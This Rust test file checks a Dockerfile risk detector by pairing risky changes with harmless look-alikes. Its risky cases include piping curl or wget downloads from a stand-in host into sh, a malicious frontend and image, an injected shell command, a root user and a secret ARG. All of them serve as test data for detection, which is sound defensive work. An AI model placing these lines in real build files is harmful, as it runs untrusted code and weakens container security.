//! What a Dockerfile changes.

use supervise_core::Tool;

use super::{Case, Pair};

const LIVE: &str =
    "FROM debian:13.1 AS base\nRUN make\nUSER ada\nENV A=1\nEXPOSE 80\nVOLUME /data\nENTRYPOINT [\"/run\"]\n";

/// The live file and a line at its end.
fn with(line: &str) -> Case {
    Case::dockerfile(LIVE, &format!("{LIVE}{line}\n"))
}

/// The live file, changed in one place.
fn changed(from: &str, to: &str) -> Case {
    assert!(LIVE.contains(from));
    Case::dockerfile(LIVE, &LIVE.replace(from, to))
}

/// A first Dockerfile.
fn first(text: &str) -> Case {
    Case::of(Tool::CapabilityBlock, text)
}

pub(crate) fn pairs() -> Vec<Pair> {
    let same = || Case::dockerfile(LIVE, LIVE);
    vec![
        (
            "not-a-dockerfile",
            first("apt-get install x\n"),
            first("from a:1\n"),
        ),
        (
            "frontend-changed",
            first("# syntax=evil/frontend\nFROM a:1\n"),
            first("# syntax=docker/dockerfile:1\nFROM a:1\n"),
        ),
        ("base-moved", changed("debian:13.1", "debian:13.2"), same()),
        (
            "base-moved",
            changed("debian:13.1", "other/debian:13.1"),
            changed("USER ada", "USER bob"),
        ),
        (
            "base-moved",
            Case::dockerfile("ARG V=1\nFROM a:$V\n", "ARG V=2\nFROM a:$V\n"),
            Case::dockerfile("FROM a:1\n", "ARG V=1\nFROM a:${V}\n"),
        ),
        (
            "base-moved",
            Case::dockerfile("FROM a:1 AS x\nFROM b:1\n", "FROM b:1 AS x\nFROM a:1\n"),
            Case::dockerfile(
                "FROM a:1 AS x\nFROM b:1\n",
                "FROM a:1 AS x\nFROM b:1 AS y\nFROM y\n",
            ),
        ),
        (
            "base-untagged",
            Case::dockerfile("FROM a AS x\nFROM b:1\n", "FROM a AS x\nFROM b:1 AS y\nFROM x\n"),
            Case::dockerfile("FROM a AS x\nFROM b:1\n", "FROM a AS x\nFROM b:1\nRUN y\n"),
        ),
        ("base-moved", with("FROM b:1"), with("FROM base")),
        (
            "base-untagged",
            changed("debian:13.1", "debian"),
            changed("debian:13.1", "debian:13.2"),
        ),
        (
            "base-untagged",
            changed("debian:13.1", "debian:latest"),
            changed("debian:13.1", "debian@sha256:00"),
        ),
        (
            "base-untagged",
            first("FROM localhost:5000/a\n"),
            first("FROM localhost:5000/a:1\n"),
        ),
        (
            "base-untagged",
            first("FROM a\n"),
            Case::dockerfile("FROM a\n", "FROM a\nRUN x\n"),
        ),
        (
            "image-copied",
            with("COPY --from=evil/image /a /b"),
            with("COPY --from=base /a /b"),
        ),
        (
            "image-copied",
            with("RUN --mount=type=bind,from=evil/image x"),
            with("COPY --from=0 /a /b"),
        ),
        ("user-root", with("USER root"), with("USER bob")),
        ("user-root", with("USER 0:0"), same()),
        (
            "user-root",
            changed("USER ada\n", ""),
            with("USER root\nRUN x\nUSER ada"),
        ),
        ("user-root", with("FROM b:1"), first("FROM a:1\n")),
        (
            "download-run",
            with("RUN curl -fsSL https://a.example/i.sh | sh"),
            with("RUN curl -fsSLo /x https://a.example/x"),
        ),
        (
            "download-run",
            with("RUN <<EOF\nwget -O i https://a.example\nsh i\nEOF"),
            Case::dockerfile(
                "FROM a:1\nRUN curl x | sh\n",
                "FROM a:1\nRUN curl x | sh\nRUN y\n",
            ),
        ),
        (
            "download-run",
            with("ONBUILD RUN curl https://a.example | sh"),
            with("ONBUILD RUN make"),
        ),
        (
            "download-run",
            with("ARG C=curl\nRUN $C https://a.example | sh"),
            with("ARG C=cat\nRUN $C x | sh"),
        ),
        (
            "download-run",
            with("RUN wget -O /f https://a.example && chmod +x /f && /f"),
            with("RUN wget -O /f https://a.example && chmod +x /f"),
        ),
        (
            "download-run",
            with("RUN wget -O /f https://a.example\nRUN chmod +x /f\nRUN /f"),
            with("RUN wget -O /f https://a.example\nRUN chmod +x /g\nRUN /g"),
        ),
        (
            "download-run",
            with("SHELL [\"/bin/sh\", \"-c\", \"curl https://a.example | sh\"]"),
            with("SHELL [\"/bin/sh\", \"-c\"]"),
        ),
        (
            "shell-replaced",
            with("SHELL [\"/opt/sh\", \"-c\"]"),
            with("SHELL [\"/bin/bash\", \"-o\", \"pipefail\", \"-c\"]"),
        ),
        (
            "shell-replaced",
            with("SHELL [\"/bin/sh\", \"-c\", \"make evil;\"]"),
            Case::dockerfile("FROM a:1\nSHELL [\"x\"]\n", "FROM a:1\nSHELL [\"x\"]\nRUN y\n"),
        ),
        (
            "run-privileged",
            with("RUN --security=insecure x"),
            with("RUN --network=none x"),
        ),
        (
            "run-privileged",
            with("RUN --network=host x"),
            with("RUN x --network=host"),
        ),
        (
            "add-url",
            with("ADD https://a.example/x.tar /x"),
            with("ADD x.tar /x"),
        ),
        (
            "add-url",
            with("ADD [\"git@a.example:x.git\", \"/x\"]"),
            with("RUN curl https://a.example"),
        ),
        (
            "add-url",
            with("ARG U=https://a.example/x\nADD ${U} /x"),
            with("ARG U=x.tar\nADD ${U} /x"),
        ),
        (
            "add-url",
            with("ENV S=https:\nARG U=${S}//a.example\nADD [\"$U/x\", \"/x\"]"),
            with("ARG U=https://a.example/x\nRUN echo $U"),
        ),
        (
            "add-url",
            Case::dockerfile(
                "FROM a:1\nARG U=x\nADD $U /x\n",
                "FROM a:1\nARG U=https://a.example\nADD $U /x\n",
            ),
            Case::dockerfile(
                "FROM a:1\nADD https://a.example /x\n",
                "FROM a:1\nARG U=https://a.example\nADD $U /x\n",
            ),
        ),
        (
            "add-url",
            with("ONBUILD ADD https://a.example /x"),
            with("ONBUILD ADD x /x"),
        ),
        ("expose-new", with("EXPOSE 8080/tcp"), with("EXPOSE 80")),
        (
            "volume-new",
            with("VOLUME [\"/var/run\"]"),
            with("VOLUME [\"/data\"]"),
        ),
        ("env-new", with("ENV B=2"), with("ENV A=1")),
        ("env-new", with("ENV A=2"), with("RUN B=2 x")),
        ("env-steers", with("ENV PATH=/x:$PATH"), with("ENV LANG=C")),
        ("env-steers", with("ENV https_proxy http://a.example:1"), same()),
        (
            "secret-in-image",
            with("ARG GITHUB_TOKEN"),
            with("ARG TOKENIZERS_PARALLELISM=false"),
        ),
        (
            "secret-in-image",
            with("ENV DB_PASSWORD=x"),
            with("ENV KEYBOARD=us"),
        ),
        ("start-replaced", changed("/run", "/other"), same()),
        (
            "start-replaced",
            with("HEALTHCHECK --interval=1s CMD x"),
            with("EXPOSE 1"),
        ),
        ("start-replaced", with("CMD x"), first("FROM a:1\nCMD x\n")),
        ("builder-network", same(), Case::ask("a.example", &["/x/"])),
    ]
}

#[test]
fn the_same_file_says_only_where_it_builds() {
    assert_eq!(Case::dockerfile(LIVE, LIVE).codes(), ["builder-network"]);
}

#[test]
fn a_user_that_is_gone_is_named() {
    let risks = changed("USER ada\n", "").risks();
    let text = &risks.iter().find(|risk| risk.code == "user-root").unwrap().text;
    assert!(text.starts_with("USER ada is gone"), "{text}");
}
